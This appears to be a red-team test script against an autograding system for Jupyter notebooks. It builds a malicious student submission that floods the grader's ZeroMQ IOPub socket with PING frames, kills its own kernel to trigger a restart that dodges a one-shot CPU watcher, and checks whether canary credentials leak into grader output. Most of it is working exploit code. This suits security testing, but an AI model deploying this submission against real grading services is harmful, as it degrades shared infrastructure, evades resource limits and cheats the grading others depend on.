"""a01: re-attack of round 21's fix (the grading process's whole CPU for a notebook, every thread, capped at 30 s on a
timer; past it the kernel is killed and the submission fails with TooCostlyKernel).

The watcher thread (`_watch_cpu`) fires once: it kills the kernel and *returns*. The submission then fails only if the
cell that was waiting sees the dead kernel in `preprocess_cell` (`_stop_if_flooded`). But a kernel that dies while
the grader *replays* earlier cells after a restart is caught inside `_restart_and_replay` (`except (DeadKernelError,
CellTimeoutError): self._restart_kernel()`), with no look at `_flooded`. So the notebook goes on in a fresh kernel,
and no watcher is left.

The hand-in (release ps1, stubs):
  * cell 3 and cell 4 (before exercise 2): when *replayed* (`execution_count <= 1`: a replay does not store history),
    flood the grader's IOPub connection with ZMTP PING commands for DUR_REPLAY s (round 21's a01 way to make the
    grading process's ZeroMQ I/O thread work; the fix caps exactly this);
  * cell 7 (exercise 2's solution) kills its own kernel in the first run: the grader restarts and replays 1..6;
  * cells 12, 16, 18, 21 (later solution cells, run in the kernel after the watcher fired): each floods DUR s.
The script samples the CPU of the grading user's processes (grader side: host PID namespace) and reports the grading
child's, against the 30 s cap."""
import os, sys, time, threading
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from u22 import *

A = "ps1_memory"
DUR = float(os.environ.get("DUR", "100"))
DUR_REPLAY = float(os.environ.get("DUR_REPLAY", "100"))
CHUNK = 100000
FLOOD_CELLS = [int(x) for x in os.environ.get("FLOOD_CELLS", "12,16,18,21").split(",")]

FLOOD = r'''
def __ping(dur, chunk=%d):
    import os, socket, select, time, struct
    from ipykernel.kernelapp import IPKernelApp
    app = IPKernelApp.instance()
    target = "%%s-%%s" %% (app.ip, app.iopub_port)
    fds = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if not os.readlink("/proc/self/fd/%%d" %% fd).startswith("socket:"):
                continue
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        try:
            if s.family == socket.AF_UNIX and s.getsockname() == target:
                try:
                    s.getpeername()
                    pid = struct.unpack("3i", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
                    if pid != os.getpid():
                        fds.append(fd)
                except OSError:
                    pass
        finally:
            s.close()
    time.sleep(0.5)
    wire = b"\x04\x07\x04PING\x00\x00" * chunk
    t0, n = time.time(), 0
    left = dict((fd, memoryview(wire)) for fd in fds)
    while fds:
        _, ready, _ = select.select([], fds, [], 1)
        for fd in ready:
            try:
                left[fd] = left[fd][os.write(fd, left[fd]):]
            except BlockingIOError:
                pass
            if not left[fd]:
                n += 1
                left[fd] = memoryview(wire)
                if time.time() - t0 > dur:
                    fds = [f for f in fds if f != fd]
    return n * chunk, round(time.process_time(), 1)
''' % CHUNK

REPLAY = FLOOD + f'''
if get_ipython().execution_count <= 1:   # a replay after a restart stores no history
    print("replay flood:", __ping({DUR_REPLAY}))
'''
KILL = '''
import os as __os, signal as __signal
if get_ipython().execution_count > 1:    # the first run only (a replay never reaches this cell again)
    __os.kill(__os.getpid(), __signal.SIGKILL)
'''
LATER = FLOOD + f'''
print("flood after the watcher fired:", __ping({DUR}))
'''


def hostile():
    def mutate(nb):
        for i, c in enumerate(nb.cells):
            if i == 3:
                c.source = "def training_memory(model, optimizer):\n    return 0\n" + REPLAY
            elif i == 4:
                c.source = REPLAY
            elif i == 7:
                c.source = c.source.replace("raise NotImplementedError()", "return 0") + "\n" + KILL
            elif i in FLOOD_CELLS:
                c.source = c.source.replace("raise NotImplementedError()", "pass") + "\n" + LATER
    return notebook(A, mutate=mutate)


def sampler(stop, acc):
    mine = os.readlink("/proc/self/ns/pid")
    while not stop.is_set():
        for p in os.listdir("/proc"):
            if not p.isdigit():
                continue
            try:
                if os.stat(f"/proc/{p}").st_uid != UID:
                    continue
                ns = os.readlink(f"/proc/{p}/ns/pid")
                f = open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()
                cpu = (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")
                cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")[:90]
            except OSError:
                continue
            if CLONE not in cmd and ns != mine:
                continue
            side = "grader" if ns == mine else "sandbox"
            acc[(p, side)] = (max(cpu, acc.get((p, side), (0, ""))[0]), cmd)
        time.sleep(0.5)


def logcap(stop, logs):
    """copies of the grading children's nbgrader.log (in /tmp/grade-kernel-*/, removed when a submission ends)"""
    import glob
    while not stop.is_set():
        for path in glob.glob("/tmp/grade-kernel-*/nbgrader.log"):
            try:
                if os.stat(path).st_uid == UID:
                    logs[path] = open(path, errors="replace").read()
            except OSError:
                pass
        time.sleep(0.5)


def run(tag, students):
    dest = course(tag, students)
    acc, stop, logs = {}, threading.Event(), {}
    th = threading.Thread(target=sampler, args=(stop, acc), daemon=True); th.start()
    threading.Thread(target=logcap, args=(stop, logs), daemon=True).start()
    t0 = time.time()
    p = grade(dest, env=CANARY_ENV)
    stop.set(); th.join()
    wall = time.time() - t0
    print(f"{tag}: wall {wall:.0f} s")
    for (pid, side), (cpu, cmd) in sorted(acc.items(), key=lambda kv: -kv[1][0])[:10]:
        print(f"   {side:7s} pid {pid:>7s} {cpu:7.1f} CPU-s  {cmd.replace(CLONE, '<clone>')}")
    out = p.stdout + p.stderr
    for line in out.splitlines():
        if any(w in line for w in ("killed", "TooCostly", "restarting", "KernelDied", "spent more")):
            print("LOG:", line[:300].replace(CLONE, "<clone>"))
    for path, text in logs.items():
        for line in text.splitlines():
            if any(w in line for w in ("killed", "TooCostly", "restarting", "spent more", "fresh kernel")):
                print("NBGRADER.LOG:", line[:300].replace(CLONE, "<clone>"))
    print(f"{tag}: canary in grader output:", "secret@localhost" in out or "AKIASECRETCANARY123" in out)
    report(dest)
    scores(dest)
    cell_outputs(dest, "m1", A, {"training_memory", "per_device_memory", "partition_layers", "split_model",
                                 "two_stage_step", "quiz_q1"})
    cleanup(dest)


if __name__ == "__main__":
    print(f"hostile: replay floods {DUR_REPLAY} s (cells 3, 4), kill in cell 7, then {DUR} s floods in cells {FLOOD_CELLS}")
    run("a01", {("aa_honest", A): honest(A), ("m1", A): hostile(), ("zz_honest", A): honest(A)})
    print("left processes of uid", UID, ":", subprocess.run(["ps", "-u", str(UID), "-o", "pid,etimes,cmd"],
                                                            capture_output=True, text=True).stdout.replace(CLONE, "<clone>")[:2000])
